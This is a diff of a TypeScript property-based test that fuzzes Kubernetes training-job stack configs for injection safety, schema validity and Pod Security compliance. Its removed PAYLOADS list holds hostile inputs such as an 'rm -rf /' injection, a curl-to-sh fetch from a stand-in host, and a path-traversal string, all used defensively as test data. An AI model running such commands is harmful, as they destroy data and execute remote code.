@@ -1,111 +1,27 @@
 // Property-based tests: thousands of generated stack configs, valid and hostile, for the v1
-// operator and Trainer v2. Each is either refused with problems that name key paths (never a
-// crash, a stack trace or an SDK error), or every object the program renders passes its
-// Kubernetes schema (and the PyTorchJob or TrainJob CRD and webhook rules), runs no shell, and
-// carries every user string intact as one argument.
+// operator and Trainer v2, reaching every key of the schema (checked). Each is either refused with
+// problems that name key paths (never a crash, a stack trace or an SDK error), or every object the
+// program renders passes its Kubernetes schema (and the PyTorchJob or TrainJob CRD and webhook
+// rules), every pod meets the Pod Security level its namespace enforces, none runs a shell, and
+// every user string is carried intact as one argument.
 // Seeded and bounded; on failure fast-check prints the seed and path to replay it:
 //   FUZZ_SEED=<seed> npm run test:unit
 import assert from "node:assert/strict";
 import { describe, it } from "node:test";
 import fc from "fast-check";
 import { ConfigError, decodeConfigValues, parseStackConfig, SECRET_KEYS } from "../components/config";
+import { inOperatorInstall } from "../policy/operatorInstall";
+import { hostileString, hostileValue, pathMutation, STACK_KEY_PATHS, setAt, validStack } from "./support/fuzzStacks";
 import { loadValidators } from "./support/k8sSchema";
+import { valueKeyPaths } from "./support/keyPaths";
+import { podSecurityViolations } from "./support/podAdmission";
 import { shellInvocations } from "./support/podSecurity";
+import { urnOf } from "./support/policyEval";
 import { runStack, toStackConfig } from "./support/stacks";
 
 const SEED = Number(process.env.FUZZ_SEED ?? 20261128);
 const PARSE_RUNS = Number(process.env.FUZZ_PARSE_RUNS ?? 3000);
 const PROGRAM_RUNS = Number(process.env.FUZZ_PROGRAM_RUNS ?? 250);
-
-const PAYLOADS = [
-  "'; rm -rf / #",
-  "$(curl http://evil.example | sh)",
-  "`id`",
-  "quote \" and ' both",
-  "line1\nline2\r\n",
-  "nul\u0000byte",
-  "x".repeat(5000),
-  "__proto__",
-  "constructor",
-  "Ünïcödé ✓ 🔥 名前",
-  "--flag=$HOME && echo",
-  "\\\\server\\share",
-  "%s%n%x",
-  "../../etc/passwd",
-  "{{ .Values.secret }}",
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal shell expansion is the payload
-  "${HOME}",
-  "",
-  " ",
-];
-
-/** Strings an attacker or a careless hand might put anywhere. */
-const hostileString = fc.oneof(
-  { weight: 3, arbitrary: fc.constantFrom(...PAYLOADS) },
-  { weight: 2, arbitrary: fc.string({ maxLength: 30 }) },
-  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 12 }) },
-);
-
-/** Any JSON value of a wrong or extreme kind. */
-const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
-  hostileString,
-  fc.constantFrom(-1, 0, 1.5, 1e308, -1e308, Number.MAX_SAFE_INTEGER, 2 ** 53 + 1, true, false, null),
-  fc.integer(),
-  fc.array(hostileString, { maxLength: 3 }),
-  fc.dictionary(hostileString, hostileString, { maxKeys: 3 }),
-);
-
-const SOURCES = {
-  model: [undefined, "hf://ibm-granite/granite-3.1-8b-base@main", "s3://models/granite", "pvc://shared/models"],
-  dataset: [undefined, "hf://datasets/org/data", "s3://data/run-1", "pvc://shared/data"],
-};
-
-const volume = (role: "model" | "dataset") =>
-  fc
-    .record({
-      source: fc.constantFrom(...SOURCES[role]),
-      size: fc.constantFrom("1Gi", "100Gi"),
-      accessMode: fc.constantFrom(undefined, "ReadWriteMany", "ReadWriteOnce"),
-    })
-    .map((v) => {
-      if (v.source?.startsWith("pvc://")) return { source: v.source };
-      return Object.fromEntries(Object.entries(v).filter(([, x]) => x !== undefined));
-    });
-
-/** A plausible job whose free-text fields carry hostile strings. */
-const job = fc.record({
-  image: fc.constantFrom("quay.io/acme/trainer:1.0", `registry.example.com/t@sha256:${"a".repeat(64)}`, "trainer"),
-  nodes: fc.integer({ min: 1, max: 4 }),
-  gpusPerNode: fc.integer({ min: 1, max: 8 }),
-  gpuResource: fc.constantFrom("nvidia.com/gpu", "amd.com/gpu", "habana.ai/gaudi"),
-  env: fc.dictionary(fc.constantFrom("NCCL_DEBUG", "MY_VAR", "a.b-c"), hostileString, { maxKeys: 2 }),
-  model: volume("model"),
-  dataset: volume("dataset"),
-  output: fc.constantFrom({ size: "10Gi" }, { existingClaim: "ckpt" }, { size: "1Ti", retain: false }),
-  trainer: fc.oneof(
-    fc.record({
-      type: fc.constant("command"),
-      command: fc.array(hostileString, { maxLength: 5 }).map((a) => ["python", ...a]),
-    }),
-    fc.record({
-      type: fc.constant("instructlab"),
-      epochs: fc.integer({ min: 1, max: 5 }),
-      learningRate: fc.constantFrom(1e-5, 2e-4),
-      extraArgs: fc.array(hostileString, { maxLength: 3 }),
-    }),
-  ),
-  rerun: fc.option(hostileString, { nil: undefined }),
-  annotations: fc.dictionary(fc.constantFrom("example.com/note", "ticket"), hostileString, { maxKeys: 2 }),
-  wait: fc.constantFrom("none", "running", "succeeded"),
-  scheduling: fc.constantFrom({}, { gang: true, queue: "q" }, { nodeSelector: { "nvidia.com/gpu.product": "H100" } }),
-});
-
-const validStack = fc.record({
-  namespace: fc.constantFrom("ml", "team-a"),
-  trainingOperator: fc.constantFrom({ install: false }, {}, { version: "v2.3.0", install: false }),
-  networkPolicy: fc.boolean(),
-  jobs: fc.dictionary(fc.constantFrom("granite", "llama-2", "a"), job, { minKeys: 1, maxKeys: 2 }),
-});
 
 type Stack = Record<string, any>;
 
@@ -168,9 +84,13 @@ function mutate(stack: Stack, m: { kind: string; key: string; value: unknown }):
 }
 
 const anyStack = fc.oneof(
-  { weight: 1, arbitrary: validStack },
+  { weight: 2, arbitrary: validStack },
   { weight: 1, arbitrary: fc.tuple(validStack, mutation).map(([s, m]) => mutate(s, m)) },
+  { weight: 1, arbitrary: fc.tuple(validStack, pathMutation).map(([s, m]) => setAt(s, m.path, m.value)) },
 );
+
+/** The secret keys a stack sets: stored as secrets, as `pulumi config set --secret` would. */
+const secretsOf = (stack: Stack) => (SECRET_KEYS as readonly string[]).filter((k) => stack[k] !== undefined);
 
 /** A refusal must be a ConfigError whose every problem names a key path on one line. */
 function assertGoodRefusal(e: unknown): void {
@@ -194,7 +114,7 @@ describe("fuzzed stack config", () => {
     fc.assert(
       fc.property(anyStack, (stack) => {
         try {
-          parseStackConfig(toStackConfig(stack), new Set());
+          parseStackConfig(toStackConfig(stack), new Set(secretsOf(stack)));
         } catch (e) {
           assertGoodRefusal(e);
         }
@@ -212,17 +132,31 @@ describe("fuzzed stack config", () => {
       fc.asyncProperty(anyStack, async (stack) => {
         let run: Awaited<ReturnType<typeof runStack>>;
         try {
-          run = await runStack(stack, []);
+          run = await runStack(stack, secretsOf(stack));
         } catch (e) {
           assertGoodRefusal(e);
           return;
         }
         accepted++;
         if (stack.trainingOperator?.version === "v2.3.0") acceptedV2++;
-        for (const r of run.resources.filter((r) => r.custom && typeof r.inputs.kind === "string")) {
-          assert.deepEqual(validate(r), [], `${r.type} ${r.name}`);
+        // The program's own objects; the operator bundle's are upstream's (and ruled by the policy pack).
+        const rendered = run.resources.filter(
+          (r) => r.custom && typeof r.inputs.kind === "string" && !inOperatorInstall(urnOf(run, r)),
+        );
+        for (const r of rendered) {
+          // Kueue's queue objects have no schema here: the queues e2e suite runs them through Kueue.
+          if (!String(r.inputs.apiVersion).startsWith("kueue.x-k8s.io/")) {
+            assert.deepEqual(validate(r), [], `${r.type} ${r.name}`);
+          }
           assert.deepEqual(shellInvocations(r.inputs), [], `${r.type} ${r.name}`);
         }
+        assert.deepEqual(
+          podSecurityViolations(
+            rendered.map((r) => r.inputs),
+            stack.namespace,
+          ),
+          [],
+        );
         for (const [name, j] of Object.entries(stack.jobs as Record<string, Stack>)) {
           if (j.trainer?.type !== "command") continue;
           const pj = run.resources.find((r) => r.name === `${name}-pytorchjob`)?.inputs as Stack | undefined;
@@ -239,6 +173,24 @@ describe("fuzzed stack config", () => {
     assert.ok(accepted > PROGRAM_RUNS / 10, `only ${accepted} of ${PROGRAM_RUNS} configs were accepted`);
     assert.ok(accepted < PROGRAM_RUNS, "no config was refused");
     assert.ok(acceptedV2 > PROGRAM_RUNS / 30, `only ${acceptedV2} Trainer v2 configs were accepted`);
+  });
+
+  it("the generator reaches every key of the stack schema, in valid stacks and as mistakes", () => {
+    const keys = new Set(STACK_KEY_PATHS);
+    const reached = (stacks: Stack[]) => new Set(stacks.flatMap((s) => valueKeyPaths(s, keys)));
+    const valid = reached(fc.sample(validStack, { seed: SEED, numRuns: 2000 }));
+    assert.deepEqual(
+      STACK_KEY_PATHS.filter((k) => !valid.has(k)),
+      [],
+    );
+    const mistakes = fc
+      .sample(fc.tuple(validStack, pathMutation), { seed: SEED, numRuns: 2000 })
+      .map(([, m]) => m.path.map((s) => (typeof s === "number" ? "[]" : s)).join("."));
+    const mutated = new Set(mistakes.map((p) => p.replace(/\.\[\]/g, "[]").replace(/granite/g, "<name>")));
+    assert.deepEqual(
+      STACK_KEY_PATHS.filter((k) => !mutated.has(k)),
+      [],
+    );
   });
 
   it("never uses a secret key's value during validation", () => {
